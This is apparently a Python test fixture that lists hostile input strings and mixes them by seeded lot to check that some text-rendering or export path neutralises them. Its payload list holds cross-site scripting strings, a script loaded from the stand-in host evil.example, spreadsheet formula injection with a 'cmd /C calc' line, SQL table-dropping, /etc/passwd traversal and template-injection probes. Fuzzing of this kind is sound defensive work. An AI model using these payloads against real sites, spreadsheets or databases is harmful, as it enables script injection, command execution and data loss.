"""Texts that somebody may put where they should not be: 30 by hand, and as many more as a night allows."""

import os
import random

# `make nightly` sets this: more of everything that is drawn by lot.
NIGHTLY = os.environ.get("NIGHTLY") == "1"
QUERIES = 5_000 if NIGHTLY else 300
TEXTS = 200 if NIGHTLY else 30

PAYLOADS = (
    # markup and scripts
    "<script>alert(1)</script>",
    "</title></style><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "]]><!--<![CDATA[",
    # links
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[free](javascript:alert(1))",
    "](https://evil.example) ![x](https://evil.example/x.png)",
    # formulas
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    # signs that are not seen
    "\u202egnp.exe\u202c",
    "\u200b\u2066=1+1\u2069\ufeff",
    "a\x00b\x1b[31mc\x7f",
    # markup of other places
    "**b** `c` # h :red[x] :material/bug_report: ~~s~~",
    "| a | b |\n|---|---|\n> q\n1. l",
    "$5 \\input{/etc/passwd} ^2 ~ 5% & #1 _x_ {y}",
    "{{7*7}} ${7*7} {0.__class__} %s %{customdata} {cost.bridge.report}",
    "'; DROP TABLE claims; --",
    "../../../../etc/passwd",
    "%2e%2e%2f%00%ff",
    "\U0001f600" * 250 + "W" * 2_000,
)  # fmt: skip
# What stands around a text in the wild, and what turns it into another.
AROUND = ("", " ", "; ", " ¶", "“", "\n", "a. ", "%", "\\", "]", "<b>", "\u200f", "1 ", "}")
TURNED = (str, str.upper, str.title, lambda text: text[::-1], lambda text: text * 2, lambda text: text[:-1])


def payloads() -> tuple[str, ...]:
    """The texts of this run: those by hand, and at night others made of them; the same in every run."""
    lot = random.Random(30)
    found = dict.fromkeys(PAYLOADS)
    while len(found) < TEXTS:
        first, second = lot.sample(PAYLOADS, 2)
        turn = lot.choice(TURNED)
        found[lot.choice(AROUND) + turn(first) + lot.choice(AROUND) + lot.choice(("", second))] = None
    return tuple(found)
